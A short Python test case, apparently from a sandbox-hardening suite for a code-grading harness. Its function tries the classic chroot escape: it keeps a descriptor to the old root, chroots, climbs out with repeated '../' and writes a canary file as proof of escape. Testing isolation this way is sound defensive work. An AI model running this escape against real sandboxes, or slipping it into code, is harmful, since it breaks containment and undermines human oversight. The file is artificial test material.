# attack: Escapes from a changed root by keeping a descriptor of the old one and climbing out of it
# expect: wrong_answer, crashed
# canary: yes
import os


def f(x):
    try:
        outside = os.open('/', os.O_RDONLY | os.O_DIRECTORY)
        os.chroot('/tmp')
        os.fchdir(outside)
        os.chdir('../' * 20)
        os.chroot('.')
    except OSError:
        pass
    try:
        with open('/tmp/passk-canary/escape-chroot-and-climb', 'w') as file:
            file.write('escaped')
    except OSError:
        pass
    return None
